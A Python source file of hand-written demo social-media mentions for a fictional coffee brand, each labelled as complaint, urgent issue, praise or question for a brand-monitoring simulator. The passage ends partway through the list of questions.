"""Built-in demo mentions for the fictional brand "Northwind Coffee" (handle NorthwindCoffee on every
network). Written by hand for the demo and the simulator.

Each mention is written in one of two styles, not for a network: a short public post ("post", as on a
microblog) or a forum submission or comment ("thread"). Which network plays which mentions is each simulated
network's to say (its `NETWORK.demo_share`, listener/simulator/network.py)."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Literal

Kind = Literal[
    "complaint",
    "praise",
    "question",
    "other",
    "sarcasm",
    "spam",
    "own",
    "non_english",
    "hostile",
    "urgent",
    "opt_out",
    "competitor",
]
Via = Literal["mention", "reply", "keyword"]
Style = Literal["post", "thread"]


@dataclass(frozen=True)
class DemoMention:
    text: str
    kind: Kind  # what a human would call it (ground truth for the demo's own checks)
    author: str  # handle, no @
    name: str  # display name
    followers: int
    style: Style = "post"
    # mention = @NorthwindCoffee in text; keyword = says "Northwind Coffee" without @
    via: Via = "mention"
    lang: str = "en"


BRAND_HANDLE = "NorthwindCoffee"
COMPETITORS = ("BeanCo", "Brewster's")


def _post(
    kind: Kind, author: str, name: str, followers: int, text: str, via: Via = "mention", lang: str = "en"
) -> DemoMention:
    return DemoMention(text, kind, author, name, followers, "post", via, lang)


def _thread(
    kind: Kind, author: str, name: str, followers: int, text: str, via: Via = "keyword", lang: str = "en"
) -> DemoMention:
    return DemoMention(text, kind, author, name, followers, "thread", via, lang)


# Repeat authors (handle, display name, followers).
MARIA = ("maria_sips", "María González", 1240)
DEVON = ("devon_codes", "Devon Park", 3890)
KWAME = ("kwame_asante", "Kwame Asante", 512)
PRIYA = ("priya_reads", "Priya Raman", 8700)
TOM = ("tombecker77", "Tom Becker", 96)
LENA = ("latte_lena", "Lena Fischer", 22100)
JAS = ("jas_brooks", "Jasmine Brooks", 640)
GUS = ("grumpy_gus", "Gus Whitfield", 41)
AIKO = ("aiko_t", "Aiko Tanaka", 2310)
CRITIC = ("thecoffeecritic", "The Coffee Critic", 184000)
SAM = ("sam_nguyen", "Sam Nguyen", 1020)
SEUN = ("seun_okafor", "Seun Okafor", 3300)
RACHEL = ("rachelruns", "Rachel Kim", 15400)
BEN = ("benharlow", "Ben Harlow", 1250000)
NADIA = ("nadia_haddad", "Nadia Haddad", 780)
MIKE = ("mike_dad_of3", "Mike Sullivan", 210)
BEANS42 = ("throwaway_beans42", "throwaway_beans42", 12)
BRAND = (BRAND_HANDLE, "Northwind Coffee", 48200)

_LONG_RANT = "@NorthwindCoffee " + "So disappointed. " * 600

_COMPLAINTS: tuple[DemoMention, ...] = (
    _post(
        "complaint",
        *MARIA,
        "@NorthwindCoffee ordered beans on the 3rd, tracking hasn't moved since the 5th. Where is my order?",
    ),
    _post(
        "complaint",
        *MARIA,
        "@NorthwindCoffee day 9 of waiting for that bag of Harbor Blend. Ticket #48213 still unanswered.",
    ),
    _post("complaint", *TOM, "@NorthwindCoffee been on hold for 2 hours now... please help, thx"),
    _post(
        "complaint",
        *TOM,
        "@NorthwindCoffee hi, still on hold (hour 3). The hold music is nice but I'd like to talk to a person",
    ),
    _post("complaint", *GUS, "@NorthwindCoffee my latte was cold. Again."),
    _post("complaint", *GUS, "@NorthwindCoffee asked for whole milk, got skim. Not hard."),
    _post(
        "complaint",
        *DEVON,
        "@NorthwindCoffee the iOS app crashes every time I tap 'Reorder'. iPhone 14, latest version. 100% repro.",
    ),
    _post(
        "complaint",
        *DEVON,
        "@NorthwindCoffee app update 4.2 logged me out and now the password reset email never arrives",
    ),
    _post("complaint", *KWAME, "@NorthwindCoffee I was charged twice for order 7781. Can someone look at this please?"),
    _post(
        "complaint",
        *JAS,
        "@NorthwindCoffee the barista at the Elm St location rolled her eyes and ignored me when I asked "
        "for a lid. Not ok.",
    ),
    _post(
        "complaint",
        *NADIA,
        "@NorthwindCoffee I've tried to cancel my subscription 3 times. The button just spins. Please cancel it.",
    ),
    _post("complaint", *NADIA, "@NorthwindCoffee still being billed for the subscription I cancelled in March"),
    _post("complaint", *MIKE, "@NorthwindCoffee ordered 3 drinks in the app, got 2 and a muffin nobody asked for"),
    _post(
        "complaint",
        *SAM,
        "@NorthwindCoffee refund for my returned grinder was 'processed' 3 weeks ago. Nothing on my card yet.",
    ),
    _post(
        "complaint",
        "hollyb_",
        "Holly Brennan",
        330,
        "@NorthwindCoffee package says delivered, no package. Porch camera shows nobody came.",
    ),
    _post(
        "complaint",
        "dr_ellis",
        "Dr. Amara Ellis",
        5400,
        "@NorthwindCoffee the new cup lids leak all over my hands every single morning",
    ),
    _post(
        "complaint",
        "commuter_jake",
        "Jake Morrison",
        187,
        "@NorthwindCoffee the drive-thru wait on Route 9 was 25 minutes at 7am. Missed my train.",
    ),
    _post(
        "complaint", "lucia_m", "Lucía Martín", 920, "@NorthwindCoffee gift card shows a $0 balance but I never used it"
    ),
    _post(
        "complaint",
        "frugal_fran",
        "Fran Delgado",
        2100,
        "@NorthwindCoffee why did the price of a small drip go up by 60 cents overnight",
    ),
    _post(
        "complaint",
        "night_owl_noor",
        "Noor Siddiqui",
        455,
        "@NorthwindCoffee ordered decaf, got full caf. Now it's 2am and I'm wide awake.",
    ),
    _post(
        "complaint",
        "plantbased_pat",
        "Pat Oyelaran",
        1450,
        "@NorthwindCoffee the Harbor St store ran out of oat milk by 9am for the third day in a row",
    ),
    _post(
        "complaint",
        "ines_bk",
        "Inés Baker",
        73,
        "@NorthwindCoffee order never arrived and the chat bot keeps closing my ticket",
    ),
    _post(
        "complaint",
        "chris_w_writes",
        "Chris Walsh",
        6100,
        "Not to be dramatic but @NorthwindCoffee lost my order for the second week running",
    ),
    _post(
        "complaint", *PRIYA, "@NorthwindCoffee my loyalty points disappeared after the app update. I had 1,840 points!"
    ),
    _post(
        "complaint", *PRIYA, "@NorthwindCoffee following up on the missing points. Support said 48h, it's been 6 days"
    ),
    _post(
        "complaint",
        "hbarista_fan",
        "Hugo Laurent",
        808,
        "@NorthwindCoffee the espresso at Pine & 4th tasted burnt today. Usually great, just flagging.",
    ),
    _post(
        "complaint",
        "gracie_lou",
        "Grace Liu",
        265,
        "Hi @NorthwindCoffee, sorry to bother you, but order #55102 hasn't shipped after 10 days. "
        "Could you check? Thank you!",
    ),
    _post(
        "complaint",
        "felixdev",
        "Felix Adeyemi",
        12300,
        "@NorthwindCoffee your website checkout throws 'Error 502' whenever I pay with PayPal",
    ),
    _post(
        "complaint",
        "annaliese_v",
        "Annaliese Voss",
        1720,
        "@NorthwindCoffee the staff at the airport location were really rude to my elderly mom. "
        "She was confused by the kiosk and they laughed at her.",
    ),
    _post(
        "complaint",
        "hector_b",
        "Héctor Barrios",
        39,
        "@NorthwindCoffee got a bag of beans with a best-by date two months in the past",
    ),
    _post("complaint", "zoe_q", "Zoe Quinn-Adams", 512, "ugh @NorthwindCoffee my cold brew was basically water today"),
    _post(
        "complaint",
        "b_okonkwo",
        "Blessing Okonkwo",
        3020,
        "@NorthwindCoffee the store on 5th closes at 6 on weekdays now?? website still says 8. wasted trip",
    ),
    _post(
        "complaint",
        "renata_c",
        "Renata Costa",
        147,
        "@NorthwindCoffee I emailed support twice about a damaged kettle. No reply. What's the right channel?",
    ),
    _post("complaint", "wes_t", "Wes Turner", 58, "@NorthwindCoffee still waiting. order 90412. it's been 2 weeks."),
    _post(
        "complaint",
        "kaylee_morgan",
        "Kaylee Morgan",
        2290,
        "@NorthwindCoffee wrong name on my cup is fine, wrong drink is not. Third time this month",
    ),
    _post(
        "complaint",
        "ivan_petrov",
        "Ivan Petrov",
        404,
        "@NorthwindCoffee the app charged my old card even though I updated the default payment method",
    ),
    _post(
        "complaint",
        "lisa_m_h",
        "Lisa Marie Hart",
        990,
        "@NorthwindCoffee why does cancelling the subscription require a phone call? It's 2025",
    ),
    _post(
        "complaint",
        "dan_the_roaster",
        "Daniel Moreau",
        7700,
        "@NorthwindCoffee my Harbor Blend subscription shipped twice this month and I was charged twice too",
    ),
    _post(
        "complaint",
        "ruthie_reads",
        "Ruth Abernathy",
        321,
        "@NorthwindCoffee the courier left my coffee in the rain. The bag is soaked through",
    ),
    _post("complaint", *MIKE, "@NorthwindCoffee hot chocolate was lukewarm and gritty. The kids were disappointed"),
    _post(
        "complaint",
        "transit_tasha",
        "Tasha Green",
        1180,
        "@NorthwindCoffee the queue at the Union Station store is chaos, nobody is managing mobile orders",
    ),
    _post(
        "complaint",
        "birthday_bri",
        "Brianna Cole",
        612,
        "@NorthwindCoffee my 'free birthday drink' never showed up in the app",
    ),
    _post(
        "complaint",
        "owen_price",
        "Owen Price",
        233,
        "@NorthwindCoffee I was told refunds take 5-7 business days. Today is business day 15.",
    ),
    _post("complaint", *SAM, "@NorthwindCoffee any update on the refund? Ticket 22817. Third time asking."),
    _post(
        "complaint",
        "mei_lin",
        "Mei Lin",
        4480,
        "@NorthwindCoffee the app says 'store closed' for a store that is open. I'm standing inside it.",
    ),
    _post(
        "complaint",
        *DEVON,
        "@NorthwindCoffee android app too: white screen after the splash. Pixel 7, cleared cache, no luck",
    ),
    _post(
        "complaint",
        "rob_on_broad",
        "Rob Castellano",
        88,
        "northwind coffee on Broad St gave me the wrong order twice this week, starting to think it's personal",
        via="keyword",
    ),
    _post(
        "complaint",
        "femi_a",
        "Femi Adebayo",
        1503,
        "Waited 45 min for a Northwind Coffee delivery that got cancelled with no explanation",
        via="keyword",
    ),
    _post(
        "complaint",
        "caro_lynn",
        "Carolyn Price",
        702,
        "Northwind Coffee customer service is a maze. 4 transfers and nobody could help",
        via="keyword",
    ),
    _post(
        "complaint",
        "sven_h",
        "Sven Halvorsen",
        2410,
        "the new northwind seasonal syrup tastes like cough medicine, sorry",
        via="keyword",
    ),
    _post(
        "complaint",
        "tiff_nguyen",
        "Tiffany Nguyen",
        350,
        "Northwind Coffee charged me a $3 'service fee' on a PICKUP order?? what service",
        via="keyword",
    ),
    _post(
        "complaint",
        "quiet_quinn",
        "Quinn Harper",
        67,
        "this is nice but can you fix the app first? it's been crashing for a week",
        via="reply",
    ),
    _post(
        "complaint",
        "dee_marsh",
        "Deirdre Marsh",
        1840,
        "still haven't gotten my refund, so forgive me if I don't celebrate your new menu",
        via="reply",
    ),
    _post(
        "complaint",
        "alex_romero",
        "Alex Romero",
        276,
        "Any chance you'll answer my DM from last Tuesday? Order still missing.",
        via="reply",
    ),
    _post("complaint", "pia_sorensen", "Pia Sørensen", 5020, "The new cups are cute but they leak.", via="reply"),
    _post(
        "complaint",
        "plantbased_pat",
        "Pat Oyelaran",
        1450,
        "I'd love to try it but my local store has been out of oat milk for a week",
        via="reply",
    ),
    _post(
        "complaint",
        "jordan_k",
        "Jordan Kowalski",
        19,
        "@NorthwindCoffee @NorthwindCoffee hello? anyone? order 33019 never arrived",
    ),
    _post(
        "complaint",
        "mo_rahman",
        "Mohammed Rahman",
        930,
        "@NorthwindCoffee the delivery driver was rude and threw the bag at my door",
    ),
    _post("complaint", "angry_al", "Al Brennan", 12, "@NorthwindCoffee WHERE IS MY ORDER. 12 DAYS."),
    _post(
        "complaint",
        "steph_g",
        "Stephanie Gold",
        1330,
        "@NorthwindCoffee order 7012: wrong grind. I asked for whole bean, got espresso fine. Can you swap it?",
    ),
    _post(
        "complaint",
        "tanvir_h",
        "Tanvir Hossain",
        221,
        "@NorthwindCoffee the survey link on the receipt is broken, so I'm telling you here: "
        "service today was slow and rude",
    ),
    _post(
        "complaint",
        "paula_r",
        "Paula Reyes",
        4100,
        "@NorthwindCoffee the subscription auto-renewed a day after I paused it. Please refund",
    ),
    _post(
        "complaint",
        *KWAME,
        "@NorthwindCoffee 3 emails, 2 chats, 1 phone call. Still no replacement for the broken grinder",
    ),
    _post(
        "complaint", *KWAME, "@NorthwindCoffee the double charge is still there, my bank says you have to reverse it"
    ),
    _post(
        "complaint",
        "georgia_p",
        "Georgia Papadopoulos",
        860,
        "@NorthwindCoffee drink came with no lid and coffee all over the bag. Delivery via your own app",
    ),
    _post(
        "complaint",
        "daily_dom",
        "Dominic Reyes",
        3410,
        "@NorthwindCoffee the rewards tier changes are a downgrade for people who actually come every day",
    ),
    _post(
        "complaint",
        *LENA,
        "@NorthwindCoffee honestly disappointed. Used to be my favourite spot, quality has slipped a lot this year",
    ),
    _post(
        "complaint",
        "winter_will",
        "Will Nakamura",
        149,
        "@NorthwindCoffee asked for extra hot, got barely warm. It's 20°F outside",
    ),
    _post("complaint", *JAS, "@NorthwindCoffee follow-up: nobody from the Elm St store reached out. Disappointing"),
    _post(
        "complaint",
        "imani_j",
        "Imani Jefferson",
        2675,
        "@NorthwindCoffee my order has been 'preparing' for 50 minutes in the app",
    ),
    _post(
        "complaint",
        "henrik_o",
        "Henrik Olsen",
        95,
        "@NorthwindCoffee your card reader at the Oak St drive-thru has been broken for 3 days, cash only is rough",
    ),
    _thread(
        "complaint",
        *BEANS42,
        "Anyone else having issues with Northwind Coffee's subscription? I paused mine in January and they've "
        "charged me every month since. Support keeps sending the same canned email. At this point I'm just "
        "going to block the card.",
    ),
    _thread(
        "complaint",
        "pourover_pete",
        "pourover_pete",
        140,
        "PSA: the Northwind Coffee 'fresh roasted' bags I got had a roast date from 3 months ago. Beans were "
        "flat, zero bloom. Used to be good, not sure what changed.",
    ),
    _thread(
        "complaint",
        "burr_grinder_blues",
        "burr_grinder_blues",
        57,
        "Long rant incoming. Ordered a grinder from Northwind in November, it arrived with a cracked hopper. "
        "Sent photos, they asked for more photos, then the ticket auto-closed. Six weeks later, still "
        "nothing.",
    ),
    _thread(
        "complaint",
        *BEANS42,
        "Update on my Northwind subscription saga: they finally refunded two of the four months. Still "
        "waiting on the rest. Not holding my breath.",
    ),
    _thread(
        "complaint",
        "u_tapped_out",
        "u_tapped_out",
        230,
        "The Northwind Coffee app is genuinely the worst ordering app I've used. Logs me out daily, loses my "
        "saved drinks, and the store locator sends me to a store that closed last year.",
    ),
    _thread(
        "complaint",
        "slow_ship_sally",
        "slow_ship_sally",
        33,
        "You said you'd 'look into it' two weeks ago. Order still hasn't shipped.",
        via="reply",
    ),
    _thread(
        "complaint",
        "darkroast_dan",
        "darkroast_dan",
        88,
        "Is it just me or has Northwind's dark roast gotten way more bitter? Same bag for 3 years and the "
        "last two tasted like charcoal.",
    ),
    _thread(
        "complaint",
        "waiting_in_queue",
        "waiting_in_queue",
        4,
        "Appreciate the reply from the official account, but I've now been told to 'DM you' three times "
        "and nobody answers the DMs.",
        via="reply",
    ),
)

_URGENT: tuple[DemoMention, ...] = (
    _post(
        "urgent",
        *BEN,
        "@NorthwindCoffee found a shard of glass in my pastry at your Market St store this morning. "
        "Photos saved. This is a serious food safety issue.",
    ),
    _post("urgent", *BEN, "@NorthwindCoffee still no response about the glass in my pastry. I've contacted a lawyer."),
    _post(
        "urgent",
        *BEN,
        "@NorthwindCoffee day 3, nobody from your team has called. My followers keep asking for updates.",
    ),
    _post(
        "urgent",
        "sarah_whit",
        "Sarah Whitaker",
        2300,
        "@NorthwindCoffee my son had an allergic reaction after staff told us the muffin was nut-free. "
        "We were in the ER last night.",
    ),
    _post(
        "urgent",
        "dwayne_r",
        "Dwayne Robinson",
        890,
        "@NorthwindCoffee I'm going to sue. The drive-thru lid popped off and I have second-degree burns on my leg.",
    ),
    _post(
        "urgent",
        *CRITIC,
        "@NorthwindCoffee three people in our office got food poisoning after your catered breakfast. "
        "Please contact me immediately.",
    ),
    _post(
        "urgent",
        "kel_rivers",
        "Kelly Rivers",
        150,
        "@NorthwindCoffee cancel my account NOW and refund the last 3 charges or I'm filing a chargeback",
    ),
    _post(
        "urgent",
        "marcus_t",
        "Marcus Thompson",
        470,
        "@NorthwindCoffee refund now. I'm done waiting. Reporting you to the BBB today.",
    ),
    _post(
        "urgent",
        "yasmin_f",
        "Yasmin Farouk",
        2870,
        "@NorthwindCoffee I've filed a chargeback with my bank for order 6610. You had a month to fix it.",
    ),
    _post(
        "urgent",
        "patricia_n",
        "Patricia Nolan",
        3100,
        "@NorthwindCoffee my lawyer will be in touch about my fall at your Cedar Rd store. Wet floor, no sign.",
    ),
    _post(
        "urgent",
        "evan_writes",
        "Evan Brooks",
        67000,
        "@NorthwindCoffee there was a hair AND a piece of plastic in my sandwich. Reporting this to the "
        "health department.",
    ),
    _post(
        "urgent",
        "hanna_lindqvist",
        "Hanna Lindqvist",
        1900,
        "@NorthwindCoffee delete my account and all my data immediately. GDPR request. I will escalate to "
        "the regulator if this is ignored.",
    ),
    _post(
        "urgent",
        "jen_and_the_twins",
        "Jen Castillo",
        5200,
        "@NorthwindCoffee my 4yo's 'decaf' was clearly caffeinated and she has a heart condition. "
        "We're at urgent care. Who do I call?",
    ),
    _post(
        "urgent",
        "aurelio_v",
        "Aurelio Vargas",
        340,
        "@NorthwindCoffee you've charged me 4 times for the same order. Refund today or legal action follows.",
    ),
    _post(
        "urgent",
        *RACHEL,
        "@NorthwindCoffee my partner has a severe dairy allergy. Asked for oat, got dairy, reaction within "
        "minutes. This needs to be taken seriously.",
    ),
    _post(
        "urgent",
        "chef_marco_lind",
        "Chef Marco Lind",
        2000000,
        "@NorthwindCoffee 2M people follow me and I'm about to tell all of them about the mold in my cold brew.",
    ),
    _post(
        "urgent",
        "luis_ortega",
        "Luis Ortega",
        780,
        "@NorthwindCoffee the steam wand at your Harbor St store sprayed my daughter. Burn on her arm. "
        "The manager shrugged.",
    ),
    _post(
        "urgent",
        "dana_price",
        "Dana Price",
        45,
        "Just filed a complaint with the BBB about Northwind Coffee. Three months, no refund, no answer. "
        "Chargeback is next.",
        via="keyword",
    ),
    _post(
        "urgent",
        *NADIA,
        "@NorthwindCoffee cancel my subscription immediately. I have asked 5 times. Next stop is my attorney.",
    ),
    _post(
        "urgent",
        "kyle_homebarista",
        "Kyle Ahmed",
        58000,
        "@NorthwindCoffee we found broken glass inside a sealed bag of your whole beans. Lot NW-2231. Recall it!",
    ),
    _post(
        "urgent",
        "mila_j",
        "Mila Jovanović",
        98000,
        "@NorthwindCoffee my kid got food poisoning from your chicken wrap. We're considering legal action.",
    ),
    _thread(
        "urgent",
        "lakeview_local",
        "lakeview_local",
        61,
        "Northwind Coffee gave me food poisoning (I think?). Bought a breakfast wrap at the Lakeview store "
        "Tuesday, sick for two days, and two coworkers who got the same thing are sick too. Has anyone "
        "reported them to the health department? How do I do it?",
    ),
)

_PRAISE: tuple[DemoMention, ...] = (
    _post("praise", "sunny_side_sol", "Soledad Ruiz", 402, "love you @NorthwindCoffee ☕"),
    _post("praise", *LENA, "@NorthwindCoffee the Harbor Blend is unreal this week 😍☕"),
    _post(
        "praise",
        *LENA,
        "@NorthwindCoffee shoutout to Marisol at the Pine St store, she remembered my order after one visit 🙌",
    ),
    _post(
        "praise",
        "stormwatch_bev",
        "Beverly Adams",
        1290,
        "@NorthwindCoffee thank you for staying open late during the storm. You're a community treasure.",
    ),
    _post("praise", *AIKO, "@NorthwindCoffee the matcha oat latte is perfect. I'm in there every morning now"),
    _post("praise", *AIKO, "@NorthwindCoffee 100 visits on the loyalty card today 🎉 thanks for the free pastry!"),
    _post(
        "praise", "coldbrew_cam", "Cameron Diallo", 7710, "@NorthwindCoffee best cold brew in the city, not even close"
    ),
    _post(
        "praise",
        "haley_b",
        "Haley Bishop",
        530,
        "@NorthwindCoffee Derek at the drive-thru made my whole week. Kindest guy.",
    ),
    _post(
        "praise",
        "raj_patel",
        "Raj Patel",
        2440,
        "@NorthwindCoffee you fixed my order issue in 10 minutes. Customer service done right 👏",
    ),
    _post(
        "praise",
        *CRITIC,
        "@NorthwindCoffee the new single-origin Ethiopia is bright, floral, balanced. 9/10. Review up tomorrow.",
    ),
    _post("praise", "emoji_erin", "Erin", 88, "☕☕☕ @NorthwindCoffee"),
    _post("praise", *MIKE, "@NorthwindCoffee thanks for the free refill when my toddler knocked my cup over 😂❤️"),
    _post("praise", "autumn_abby", "Abigail Moore", 1960, "@NorthwindCoffee the pumpkin loaf is back!!! 🙌🙌"),
    _post(
        "praise",
        "loyal_lou",
        "Louis Carter",
        310,
        "@NorthwindCoffee subscriber for 4 years, never had a bad bag. Keep it up.",
    ),
    _post(
        "praise",
        "ops_olivia",
        "Olivia Grant",
        4150,
        "@NorthwindCoffee your baristas handled the 8am rush like a pit crew today. Impressive",
    ),
    _post("praise", "ux_umar", "Umar Sheikh", 11800, "@NorthwindCoffee the new app is so much faster, great update"),
    _post(
        "praise",
        "aussie_in_town",
        "Mitch Kelly",
        740,
        "@NorthwindCoffee honestly the only place around here that gets a flat white right",
    ),
    _post(
        "praise",
        "new_barista_bella",
        "Bella Romano",
        205,
        "@NorthwindCoffee thank you for the job! First shift went great 🥹",
    ),
    _post("praise", "green_gemma", "Gemma Okoro", 3370, "@NorthwindCoffee the compostable cups are a nice touch 🌱"),
    _post(
        "praise",
        "shelter_volunteer",
        "Terrence Hall",
        1120,
        "@NorthwindCoffee love that you donate leftover pastries to the shelter. More of this",
    ),
    _post("praise", *SEUN, "@NorthwindCoffee thanks for hosting our study group every Sunday. Priya & Jon say hi"),
    _post("praise", *SEUN, "@NorthwindCoffee Kofi at Riverside pulled the best cortado of my life"),
    _post("praise", "heart_eyes_hana", "Hana Kim", 64, "@NorthwindCoffee 😍😍😍"),
    _post(
        "praise",
        "gift_giver_greg",
        "Greg Lawson",
        890,
        "@NorthwindCoffee the gift set arrived early and beautifully packed. My dad loved it",
    ),
    _post(
        "praise",
        "val_simple",
        "Valerie Brooks",
        310,
        "@NorthwindCoffee fair prices, great beans, friendly staff. What else do you need",
    ),
    _post(
        "praise",
        "broken_mug_ben",
        "Benedict Ng",
        177,
        "@NorthwindCoffee support refunded my broken mug without any hassle. Appreciated!",
    ),
    _post("praise", *SAM, "@NorthwindCoffee refund finally landed, thanks Ana from support for chasing it 🙏"),
    _post("praise", *PRIYA, "@NorthwindCoffee points restored! Thank you for sorting it 🙌"),
    _post("praise", *MARIA, "@NorthwindCoffee it arrived!! Thank you Jordan from support for tracking it down ☕"),
    _post(
        "praise", "rainy_day_rosa", "Rosa Medina", 2045, "@NorthwindCoffee oat milk cortado + rainy day = perfection"
    ),
    _post("praise", *RACHEL, "@NorthwindCoffee post-run cold brew is my ritual. 10 miles done, rewarded ☕"),
    _post("praise", *RACHEL, "@NorthwindCoffee the new protein bites are actually good? Color me surprised"),
    _post(
        "praise",
        "decaf_dave",
        "David Cohen",
        1450,
        "@NorthwindCoffee your decaf doesn't taste like decaf, which is the highest compliment",
    ),
    _post(
        "praise",
        "nurse_kay",
        "Kay Osei",
        1340,
        "@NorthwindCoffee the staff at the hospital location are angels. The night shift nurses thank you",
    ),
    _post(
        "praise",
        "biscuit_the_corgi",
        "Biscuit 🐶",
        26400,
        "@NorthwindCoffee thanks for the dog treats at the drive-thru, I am a big fan 🐶",
    ),
    _post(
        "praise",
        "lakeview_lauren",
        "Lauren Fitzgerald",
        388,
        "@NorthwindCoffee just wanted to say the Lakeview crew is the best. That's it. That's the tweet.",
    ),
    _post(
        "praise",
        "rolling_rhea",
        "Rhea Menon",
        6240,
        "@NorthwindCoffee the accessible ordering kiosk is a game changer. Thank you for thinking of wheelchair users",
    ),
    _post(
        "praise",
        "roadtrip_ray",
        "Ray Dubois",
        512,
        "@NorthwindCoffee drove 40 min out of my way for your maple latte. Worth it",
    ),
    _post("praise", "holiday_holly", "Holly Jensen", 1175, "@NorthwindCoffee great job on the holiday blend this year"),
    _post(
        "praise",
        "consultant_claire",
        "Claire Beaumont",
        9300,
        "@NorthwindCoffee my go-to for client meetings. Always quiet, always good",
    ),
    _post("praise", "gm_guy", "Pete Marsh", 18, "gm @NorthwindCoffee ☀️☕"),
    _post(
        "praise",
        "finals_fiona",
        "Fiona Walsh",
        640,
        "Northwind Coffee's Harbor Blend is the only thing getting me through finals week",
        via="keyword",
    ),
    _post(
        "praise", "monday_marcus", "Marcus Bell", 2280, "northwind cold brew hits different on a Monday", via="keyword"
    ),
    _post(
        "praise",
        "phone_dead_phil",
        "Phil Ortiz",
        97,
        "Shoutout to the Northwind Coffee on 3rd Ave for letting me charge my phone and wait out the rain",
        via="keyword",
    ),
    _post(
        "praise",
        "cat_foam_cleo",
        "Cleo Baptiste",
        4930,
        "the barista at northwind drew a cat in my foam 🐱 10/10",
        via="keyword",
    ),
    _post(
        "praise",
        "speedy_sid",
        "Siddharth Rao",
        1210,
        "Northwind Coffee delivery arrived in 12 minutes and still hot. Witchcraft",
        via="keyword",
    ),
    _post(
        "praise",
        "newstore_nia",
        "Nia Washington",
        3800,
        "Congrats on the new store! Can't wait to visit 🎉",
        via="reply",
    ),
    _post("praise", "design_dani", "Daniela Ferraro", 15600, "That holiday cup design is gorgeous", via="reply"),
    _post("praise", "toronto_tess", "Tess MacDonald", 2210, "Yes!! Finally a Canada launch 🇨🇦", via="reply"),
    _post("praise", "tried_it_ty", "Tyrone Jackson", 420, "Just tried it, it's amazing", via="reply"),
    _post(
        "praise",
        "sorted_sophie",
        "Sophie Laurent",
        735,
        "Thank you for answering so quickly yesterday, all sorted",
        via="reply",
    ),
    _post("praise", "fav_shop_finn", "Finn O'Brien", 260, "This is why you're my favorite coffee shop", via="reply"),
    _post(
        "praise",
        "maple_ave_mo",
        "Maureen O'Neill",
        150,
        "@NorthwindCoffee 5 years a regular at Maple Ave. Same smiles every morning. ❤️",
    ),
    _post(
        "praise",
        "consistent_chen",
        "Wei Chen",
        3320,
        "@NorthwindCoffee the barista training clearly pays off. Consistent every single time",
    ),
    _post(
        "praise",
        "ms_teacher_t",
        "Tamara Ellis",
        1985,
        "@NorthwindCoffee free coffee for teachers week 🍎 you didn't have to do that, thank you!",
    ),
    _post(
        "praise",
        "espresso_nerd_eli",
        "Eli Rosen",
        8820,
        "@NorthwindCoffee I'm a picky espresso nerd and your Pine St shots are dialed in",
    ),
    _post("praise", "latte_lover_li", "Li Wei", 301, "@NorthwindCoffee 🙌🙌🙌 best latte"),
    _post("praise", "bday_bianca", "Bianca Silva", 733, "@NorthwindCoffee thank u for the birthday drink!! 🥳"),
    _thread(
        "praise",
        "espresso_enjoyer_",
        "espresso_enjoyer_",
        212,
        "Unpopular opinion maybe, but the Northwind Coffee subscription is the best value I've found. 12oz "
        "every two weeks, roast dates within a week, and when a bag got lost they just sent another.",
    ),
    _thread(
        "praise",
        "open_mic_ollie",
        "open_mic_ollie",
        46,
        "Shoutout to the Northwind on Elm for hosting the open mic last night. Staff were great and the "
        "chai was excellent.",
    ),
    _thread(
        "praise",
        "burr_grinder_blues",
        "burr_grinder_blues",
        57,
        "Thanks for following up on my thread, the replacement grinder arrived today and works great.",
        via="reply",
    ),
    _thread(
        "praise",
        "v60_vivian",
        "v60_vivian",
        129,
        "Northwind Coffee Ethiopia review: blueberry on the nose, tea-like body, really clean finish. "
        "Great in a V60. 8.5/10",
    ),
)

_QUESTIONS: tuple[DemoMention, ...] = (
    _post(
        "question",
        "early_bird_eva",
        "Eva Lindgren",
        311,
        "@NorthwindCoffee what time does the Harbor St store open on Sundays?",
    ),
    _post("question", "oat_curious", "Martin Weber", 58, "@NorthwindCoffee do you have oat milk at every location?"),
    _post("question", "canuck_cal", "Callum Fraser", 1430, "@NorthwindCoffee do you ship to Canada?"),
    _post("question", "giftcard_gina", "Gina Russo", 207, "@NorthwindCoffee can I use gift cards in the app?"),
    _post("question", "waiting_walt", "Walter Hayes", 12, "@NorthwindCoffee where is my order? #77120, placed Monday"),
    _post(
        "question",
        "vegan_vic",
        "Victoria Lane",
        3390,
        "@NorthwindCoffee any vegan food options besides the banana bread?",
    ),
    _post(
        "question", "login_lars", "Lars Eriksen", 144, "@NorthwindCoffee I can't log in to the app. Is there an outage?"
    ),
    _post("question", "holiday_hank", "Hank Miller", 76, "@NorthwindCoffee are you open on Christmas Day?"),
    _post("question", "decaf_diana", "Diana Ross-Lee", 512, "@NorthwindCoffee is the Harbor Blend available in decaf?"),
    _post("question", "tap_to_pay_tim", "Tim Okada", 233, "@NorthwindCoffee do you take Apple Pay at the drive-thru?"),
    _post("question", "two_accounts_ty", "Tyler Brooks", 89, "@NorthwindCoffee how do I merge two loyalty accounts?"),
    _post("question", "bakery_bea", "Beatrice Holm", 1270, "@NorthwindCoffee are your pastries baked in store?"),
    _post("question", "student_stef", "Stefan Ionescu", 402, "@NorthwindCoffee is there a student discount?"),
    _post(
        "question",
        "caffeine_cara",
        "Cara Doyle",
        655,
        "@NorthwindCoffee hey, how much caffeine is in a large cold brew?",
    ),
    _post("question", "gf_grace", "Grace Tan", 2870, "@NorthwindCoffee do you have gluten-free options?"),
    _post(
        "question",
        "dog_mom_dee",
        "Deanna Wright",
        4120,
        "@NorthwindCoffee can I bring my dog inside the Maple Ave store?",
    ),
    _post("question", "job_hunt_jo", "Joanna Pierce", 93, "@NorthwindCoffee are you hiring at the Lakeview location?"),
    _post("question", "event_planner_ed", "Edward Kaplan", 5900, "@NorthwindCoffee do you do catering for 50 people?"),
    _post(
        "question", "return_ron", "Ronald Fisher", 41, "@NorthwindCoffee what's the return policy on brewing equipment?"
    ),
    _post("question", "sugarfree_sue", "Susan Park", 780, "@NorthwindCoffee is the new seasonal syrup sugar-free?"),
    _post("question", "vancouver_vi", "Vivian Cho", 2260, "@NorthwindCoffee when is the Canada store opening?"),
    _post(
        "question",
        "moved_max",
        "Max Schneider",
        318,
        "@NorthwindCoffee can I change the delivery address on an order that's already placed?",
    ),
    _post(
        "question",
        "locked_out_liv",
        "Olivia Bennett",
        57,
        "@NorthwindCoffee how do I reset my password if I no longer have access to that email?",
    ),
    _post("question", "gift_card_gabe", "Gabriel Santos", 164, "@NorthwindCoffee do gift cards expire?"),
    _post("question", "almond_amy", "Amy Zhou", 990, "@NorthwindCoffee is the almond milk sweetened?"),
    _post("question", "ethical_ethan", "Ethan Moss", 6600, "@NorthwindCoffee are your beans fair trade certified?"),
    _post(
        "question",
        "bean_buyer_bo",
